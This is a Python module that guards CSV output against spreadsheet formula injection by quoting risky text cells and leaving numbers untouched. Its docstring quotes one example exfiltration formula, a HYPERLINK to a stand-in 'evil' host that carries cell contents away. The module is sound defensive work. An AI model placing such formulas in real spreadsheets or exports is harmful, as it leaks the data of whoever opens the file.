"""CSV cells that no spreadsheet executes, shared by every CSV file atlasbatch writes.

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-``,
``@``, tab or carriage return as a formula ("CSV injection"). Target names, the server's
error texts and pass-through columns come from other people's catalogues and can be one:
``=HYPERLINK("http://evil/?"&A1)``. Such text gets a leading ``'``, as OWASP advises: the
spreadsheet shows the text as written and runs nothing.

Numbers stay numbers: typed numbers are never touched, and text that is a plain decimal
number (``-1.5``, ``+3``, ``-0.25e-3``) is left as it is, since a spreadsheet reads it as
that number and it can run nothing. :func:`csv_cell` serves :mod:`csv` writers,
:func:`neutralise_table` the Arrow table behind ``photometry.csv``; both apply one rule.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # imported where a table is neutralised: outcomes.csv needs no pyarrow
    import pyarrow as pa

__all__ = ["FORMULA_STARTS", "csv_cell", "neutralise", "neutralise_schema", "neutralise_table"]

#: First characters that make a spreadsheet cell a formula (OWASP's list).
FORMULA_STARTS = "=+-@\t\r"
# One pattern for Python's re and Arrow's RE2 (no look-ahead; RE2's "$" is the end of text).
_NUMBER_BODY = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_NUMBER = re.compile(_NUMBER_BODY)
_FORMULA_START_RE2 = r"^[=+\-@\t\r]"
_NUMBER_RE2 = f"^{_NUMBER_BODY}$"


def neutralise(text: str) -> str:
    """``text`` with a leading ``'`` when a spreadsheet would read it as a formula."""
    if text[:1] and text[0] in FORMULA_STARTS and _NUMBER.fullmatch(text) is None:
        return "'" + text
    return text


def csv_cell(value: object) -> str:
    """One CSV cell: empty for None, ``repr`` for floats (shortest exact text), ints as
    written; any other value as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, int):
        return str(value)
    return neutralise(str(value))


def neutralise_schema(schema: pa.Schema) -> pa.Schema:
    """``schema`` with neutralised column names (they become the CSV's header row)."""
    import pyarrow as pa  # noqa: PLC0415 - see the import block

    return pa.schema([field.with_name(neutralise(field.name)) for field in schema])


def neutralise_table(table: pa.Table) -> pa.Table:
    """``table`` with neutralised column names and string cells (vectorised); numbers as
    they were. Its schema is :func:`neutralise_schema` of the table's."""
    import pyarrow as pa  # noqa: PLC0415

    columns = [
        _neutralise_column(column) if _is_text(field.type) else column
        for field, column in zip(table.schema, table.columns, strict=True)
    ]
    return pa.Table.from_arrays(columns, schema=neutralise_schema(table.schema))


def _is_text(kind: pa.DataType) -> bool:
    import pyarrow as pa  # noqa: PLC0415

    return bool(pa.types.is_string(kind) or pa.types.is_large_string(kind))


def _neutralise_column(column: pa.ChunkedArray) -> pa.ChunkedArray:
    import pyarrow.compute as pc  # noqa: PLC0415

    risky = pc.and_(
        pc.match_substring_regex(column, _FORMULA_START_RE2),
        pc.invert(pc.match_substring_regex(column, _NUMBER_RE2)),
    )
    quoted = pc.binary_join_element_wise("'", column, "")  # the last argument is the separator
    return pc.if_else(risky, quoted, column)
